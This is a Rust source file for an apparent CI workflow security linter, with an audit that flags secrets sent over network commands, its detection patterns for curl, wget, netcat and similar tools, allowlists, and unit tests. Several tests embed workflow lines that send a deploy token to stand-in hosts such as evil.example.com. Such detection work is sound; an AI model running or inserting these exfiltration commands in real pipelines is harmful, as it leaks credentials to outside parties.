//! Secret exfiltration via network commands.
//!
//! A secret on the same line as an outbound network command is a
//! red flag, unless the line is a recognized legitimate publish
//! operation or targets a known-good endpoint. The severity rises when
//! the command carries a data-sending flag.

use std::sync::LazyLock;

use regex::Regex;

use super::{Audit, AuditLoadError, JobAnalysis, audit_meta};
use crate::finding::location::Locatable as _;
use crate::finding::{Confidence, Finding, Severity};
use crate::models::workflow::Step;
use crate::state::AuditState;
use crate::utils::extract_expressions;

pub(crate) struct SecretExfiltration {
    extra_allowed_endpoints: Vec<String>,
}

audit_meta!(
    SecretExfiltration,
    "secret-exfiltration",
    "secrets potentially exfiltrated over the network",
    "exfiltration/secrets"
);

static NETWORK_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[\s;|&])(curl|wget|nc|netcat|ncat|telnet|socat|dig|nslookup|host)\b")
        .unwrap()
});

/// Lines that are legitimate publish/deploy operations, not
/// exfiltration.
static PUBLISH_ALLOWLIST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?x)
        npm\s+publish | docker\s+login | docker\s+push | aws\s+configure |
        gcloud\s+auth | git\s+push | gh\s+api | codecov | twine\s+upload |
        gem\s+push | cargo\s+publish | terraform\s+(?:login|init|apply) |
        vault\s",
    )
    .unwrap()
});

/// Endpoints that are legitimate targets for credentialed requests.
static ENDPOINT_ALLOWLIST: &[&str] = &[
    "api.github.com",
    "uploads.github.com",
    "objects.githubusercontent.com",
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "hooks.slack.com",
    "codecov.io",
    "pypi.org",
    "upload.pypi.org",
    "crates.io",
    "static.crates.io",
    "ghcr.io",
    "quay.io",
    "docker.io",
    "registry-1.docker.io",
];

/// Flags that indicate the command sends request data.
static DATA_SENDING_FLAG: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?x)
        (?:^|\s)
        (?:-d\b | --data(?:-\w+)?\b | -H\b | --header\b | --post-data\b |
         --post-file\b | --upload-file\b | -T\b | --body\b |
         -X\s+(?:POST|PUT))",
    )
    .unwrap()
});

static SECRETS_EXPR: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\$\{\{\s*secrets\.([A-Za-z0-9_]+)\s*\}\}").unwrap());

impl SecretExfiltration {
    fn line_is_allowlisted(&self, line: &str) -> bool {
        if PUBLISH_ALLOWLIST.is_match(line) {
            return true;
        }

        if ENDPOINT_ALLOWLIST.iter().any(|e| line.contains(e)) {
            return true;
        }

        self.extra_allowed_endpoints
            .iter()
            .any(|e| line.contains(e.as_str()))
    }

    /// Secrets referenced directly or via step env vars on the line.
    fn secrets_on_line<'doc>(&self, step: &Step<'doc>, line: &str) -> Vec<String> {
        let mut secrets = vec![];

        for caps in SECRETS_EXPR.captures_iter(line) {
            secrets.push(format!("secrets.{}", &caps[1]));
        }

        for (name, value) in step.env_entries() {
            if !extract_expressions(&value)
                .iter()
                .any(|(e, _)| e.as_bare().trim().starts_with("secrets."))
            {
                continue;
            }

            if line.contains(&format!("${name}")) || line.contains(&format!("${{{name}}}")) {
                secrets.push(format!("env.{name}"));
            }
        }

        secrets
    }
}

impl Audit for SecretExfiltration {
    fn new(state: &AuditState) -> Result<Self, AuditLoadError>
    where
        Self: Sized,
    {
        Ok(Self {
            extra_allowed_endpoints: state.extra_allowed_endpoints.clone(),
        })
    }

    fn audit_step<'doc>(
        &self,
        step: &Step<'doc>,
        _analysis: &JobAnalysis,
    ) -> anyhow::Result<Vec<Finding<'doc>>> {
        let mut findings = vec![];

        let Some(script) = step.run_body() else {
            return Ok(findings);
        };

        for line in script.lines() {
            let Some(caps) = NETWORK_COMMAND.captures(line) else {
                continue;
            };
            let command = caps.get(1).expect("group 1").as_str();

            if self.line_is_allowlisted(line) {
                continue;
            }

            let secrets = self.secrets_on_line(step, line);
            if secrets.is_empty() {
                continue;
            }

            let severity = if DATA_SENDING_FLAG.is_match(line) {
                Severity::Critical
            } else {
                Severity::High
            };

            let mut builder = Self::finding()
                .severity(severity)
                .confidence(Confidence::Medium)
                .add_location(step.location().hidden())
                .add_location(
                    step.location()
                        .with_keys(["run".into()])
                        .primary()
                        .subfeature(subfeature::Subfeature::new(0, line))
                        .annotated(format!(
                            "`{secrets}` may be exfiltrated via `{command}`",
                            secrets = secrets.join("`, `")
                        )),
                );

            for secret in &secrets {
                builder = builder.untrusted_path(secret);
            }

            findings.push(builder.build(step.workflow())?);
        }

        Ok(findings)
    }
}

#[cfg(test)]
mod tests {
    use crate::audit::test_support::findings_for;
    use crate::finding::Severity;

    #[test]
    fn test_direct_secret_exfiltration() {
        let findings = findings_for::<super::SecretExfiltration>(
            r#"
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: curl https://evil.example.com/?t=${{ secrets.DEPLOY_TOKEN }}
"#,
        );

        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].determinations.severity, Severity::High);
        assert_eq!(findings[0].untrusted_paths, ["secrets.DEPLOY_TOKEN"]);
    }

    #[test]
    fn test_data_flag_escalates() {
        let findings = findings_for::<super::SecretExfiltration>(
            r#"
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "token=${{ secrets.DEPLOY_TOKEN }}" https://evil.example.com/
"#,
        );

        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].determinations.severity, Severity::Critical);
    }

    #[test]
    fn test_env_secret_on_command_line() {
        let findings = findings_for::<super::SecretExfiltration>(
            r#"
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - env:
          TOKEN: ${{ secrets.DEPLOY_TOKEN }}
        run: curl https://collect.example.com/?t=$TOKEN
"#,
        );

        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].untrusted_paths, ["env.TOKEN"]);
    }

    #[test]
    fn test_allowlisted_endpoint_is_ok() {
        let findings = findings_for::<super::SecretExfiltration>(
            r#"
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: curl -H "Authorization: token ${{ secrets.GH_TOKEN }}" https://api.github.com/user
"#,
        );

        assert!(findings.is_empty());
    }

    #[test]
    fn test_publish_command_is_ok() {
        let findings = findings_for::<super::SecretExfiltration>(
            r#"
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - env:
          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}
        run: npm publish
"#,
        );

        assert!(findings.is_empty());
    }

    #[test]
    fn test_no_secret_no_finding() {
        let findings = findings_for::<super::SecretExfiltration>(
            r#"
on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: curl https://example.com/status
"#,
        );

        assert!(findings.is_empty());
    }
}
